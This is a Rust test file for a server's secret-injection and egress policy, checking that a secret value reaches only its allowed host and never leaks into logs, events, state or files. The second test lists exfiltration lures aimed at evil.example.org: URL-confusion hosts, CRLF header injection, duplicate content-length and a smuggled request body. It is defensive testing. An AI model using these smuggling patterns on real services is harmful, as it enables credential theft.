//! The value of a secret goes to the secret's own hosts, and a graph that wants it elsewhere, or for itself, fails.

use std::net::Ipv4Addr;
use std::path::Path;

use serde_json::{Value, json};

use crate::support::dns::Reply;
use crate::support::server::{TALKATIVE, text};
use crate::support::{Dns, Receiver, Server, Setup, Wire, sse};

const VALUE: &str = "sk-the-value-of-the-secret-0a1b2c3d";
/// Where the secret may go, and where it may not, which the policy lets graphs call as well.
const OWN: Ipv4Addr = Ipv4Addr::new(127, 66, 0, 1);
const OTHER: Ipv4Addr = Ipv4Addr::new(127, 67, 0, 1);

async fn names() -> Dns {
    Dns::saying(|name, _| match name {
        "api.example.com" => Reply::addresses(&["127.66.0.1"]),
        _ => Reply::addresses(&["127.67.0.1"]),
    })
    .await
}

async fn serving(dns: &Dns, port: u16) -> Server {
    let egress = json!({
        "allowed_domains": ["api.example.com", "*.api.example.com", "*.example.org"],
        "allowed_networks": ["127.66.0.0/16", "127.67.0.0/16"],
        "allowed_ports": [port], "require_https": false,
    });
    let secrets = json!({"KEY": {"value": "${{ env.REAL_KEY }}", "hosts": ["api.example.com"]}});
    let setup = Setup::probes(&["luring"]).asking(dns);
    let setup = setup.set("egress", egress).set("secrets", secrets);
    let setup = setup.set("telemetry", json!({"log": TALKATIVE}));
    setup.env("REAL_KEY", VALUE).start().await
}

fn lure(method: &str, url: &str, headers: &[(&str, &str)]) -> Value {
    json!({"method": method, "url": url, "headers": headers})
}

/// A run of these requests, by a graph that tells all that it learns.
fn run(requests: &[Value], fails: bool) -> Value {
    let masked: Vec<u8> = VALUE.bytes().map(|byte| !byte).collect();
    json!({
        "assistant_id": "luring",
        "input": {"requests": requests, "look_for": masked, "fails": fails},
        "stream_mode": ["values", "updates", "custom", "messages", "messages-tuple", "debug", "events", "tasks", "checkpoints"],
        "stream_resumable": true,
    })
}

fn contains(bytes: &[u8], part: &str) -> bool {
    bytes
        .windows(part.len())
        .any(|window| window == part.as_bytes())
}

/// Every file below a directory, links followed.
fn files(directory: &Path) -> Vec<(String, Vec<u8>)> {
    let entries = std::fs::read_dir(directory).expect("a directory");
    let paths = entries.map(|entry| entry.expect("an entry").path());
    paths
        .filter(|path| {
            path.extension()
                .is_none_or(|extension| extension != "cwasm")
        })
        .flat_map(|path| match path.is_dir() {
            true => files(&path),
            false => vec![(
                path.display().to_string(),
                std::fs::read(&path).unwrap_or_default(),
            )],
        })
        .collect()
}

fn is_nowhere(what: &str, text: &str) {
    assert!(!text.contains(VALUE), "the value is in {what}: {text}");
}

#[tokio::test]
async fn a_graph_sends_the_value_to_its_host_and_never_has_it() {
    let dns = names().await;
    let [own, other] = Wire::twins([OWN, OTHER], "200 OK").await;
    let port = own.address.port();
    let webhooks = Receiver::start().await;
    let server = serving(&dns, port).await;
    let api = format!("http://api.example.com:{port}/");
    let good = [lure("POST", &api, &[("authorization", "Bearer {KEY}")])];
    let thread = server.new_thread().await;

    for fails in [false, true] {
        let mut body = run(&good, fails);
        body["webhook"] = json!(webhooks.url("/"));
        let answer = server
            .post(&format!("/threads/{thread}/runs/stream"), &body)
            .await;
        let events = sse::events(answer).await;
        let seen = format!("{events:?}");
        assert!(seen.contains("selvedge-secret-KEY-"), "{seen}");
        is_nowhere("an event", &seen);
    }
    let head = &own.requests()[0];
    assert!(
        head.contains(&format!("authorization: Bearer {VALUE}")),
        "{head}"
    );

    let runs = server.get_json(&format!("/threads/{thread}/runs")).await;
    for run in runs.as_array().expect("runs") {
        let id = text(&run["run_id"]);
        let again = server
            .get_after(&format!("/threads/{thread}/runs/{id}/stream"), "0")
            .await;
        is_nowhere("a stored event", &again.text().await.expect("text"));
    }
    for path in [
        format!("/threads/{thread}/runs"),
        format!("/threads/{thread}/state"),
        format!("/threads/{thread}/history"),
        format!("/threads/{thread}"),
        "/store/items?namespace=luring&key=said".to_owned(),
        "/metrics".to_owned(),
        "/webhooks/deliveries".to_owned(),
    ] {
        let answer = server.get(&path).await.text().await.expect("text");
        is_nowhere(&path, &answer);
    }
    let state = server.state(&thread).await;
    assert_eq!(
        state["values"]["found"], 0,
        "the value is in the guest's memory"
    );
    for received in webhooks.wait_for(2).await {
        is_nowhere("a webhook", &received.json().to_string());
    }
    is_nowhere("the log", &server.log());
    for (name, bytes) in files(&server.setup.data_dir()) {
        assert!(!contains(&bytes, VALUE), "the value is in {name}");
    }
    assert_eq!(other.requests().len(), 0);
}

#[tokio::test]
async fn no_lure_brings_the_value_to_another_host() {
    let dns = names().await;
    let [own, other] = Wire::twins([OWN, OTHER], "200 OK").await;
    let port = own.address.port();
    let server = serving(&dns, port).await;
    let bearer = [("authorization", "Bearer {KEY}")];
    let with = |more: &[(&'static str, &'static str)]| [&bearer[..], more].concat();
    let api = format!("http://api.example.com:{port}/");
    let mut lures: Vec<Value> = [
        "evil.example.org",
        "sub.api.example.com",
        "api.example.com.example.org",
        "api.example.com@evil.example.org",
        "evil.example.org#@api.example.com",
        "127.66.0.1",
        "127.67.0.1",
        "api.example.com.",
        "xn--api-example-com.example.org",
    ]
    .iter()
    .map(|host| lure("POST", &format!("http://{host}:{port}/"), &bearer))
    .collect();
    let evil = format!("http://evil.example.org:{port}");
    lures.extend([
        lure("POST", &format!("{evil}/{{KEY}}?key={{KEY}}"), &[]),
        lure(
            "POST",
            &evil,
            &[("x-{KEY}", "1"), ("cookie", "a={KEY}; b={KEY}")],
        ),
        lure("POST", &evil, &[("x-split", "{KEY"), ("x-key", "{KEY}")]),
        lure("TRACE", &api, &bearer),
        lure("CONNECT", &api, &bearer),
        lure("POST", &api, &with(&[("host", "evil.example.org")])),
        lure("POST", &api, &with(&[("transfer-encoding", "chunked")])),
        lure("POST", &api, &with(&[("connection", "authorization")])),
        lure(
            "POST",
            &api,
            &with(&[("x-a", "1\r\nhost: evil.example.org")]),
        ),
        lure(
            "POST",
            &api,
            &with(&[("content-length", "4"), ("content-length", "400")]),
        ),
        json!({"method": "POST", "url": api, "headers": with(&[("content-length", "0")]),
            "body": "POST / HTTP/1.1\r\nhost: evil.example.org\r\nauthorization: {KEY}\r\n\r\n"}),
    ]);
    let outcome = server.post_json("/runs/wait", &run(&lures, false)).await;
    assert_eq!(outcome["found"], 0, "{outcome}");
    is_nowhere("the outcome", &outcome.to_string());
    let answered = outcome["outcomes"].to_string().matches("200 {}").count();
    assert_eq!(answered, 1, "only what says no secret: {outcome}");
    is_nowhere("the log", &server.log());
    for head in other.requests() {
        is_nowhere("a request to another host", &head);
    }
    for head in own.requests().iter().filter(|head| !head.is_empty()) {
        let host = format!("host: api.example.com:{port}");
        let hosts = head
            .lines()
            .filter(|line| line.to_lowercase().starts_with("host:"));
        assert_eq!(hosts.collect::<Vec<_>>(), [host], "{head}");
        assert!(head.matches("content-length:").count() <= 1, "{head}");
    }
}

#[tokio::test]
async fn a_redirect_of_the_secrets_own_host_does_not_carry_the_value_along() {
    let dns = names().await;
    let other = Wire::at(OTHER, |_, _| {
        crate::support::Say::answer("200 OK", "", "{}")
    })
    .await;
    let elsewhere = other.url("/");
    let own = Wire::at(OWN, move |_, _| {
        let headers = format!("location: {elsewhere}\r\n");
        crate::support::Say::answer("307 Temporary Redirect", &headers, "go")
    })
    .await;
    let port = own.address.port();
    let server = serving(&dns, port).await;
    let lures = [lure(
        "POST",
        &format!("http://api.example.com:{port}/"),
        &[("authorization", "Bearer {KEY}")],
    )];
    let outcome = server.post_json("/runs/wait", &run(&lures, false)).await;
    assert_eq!(outcome["outcomes"], json!(["307 go"]), "{outcome}");
    assert_eq!((own.requests().len(), other.requests().len()), (1, 0));
}
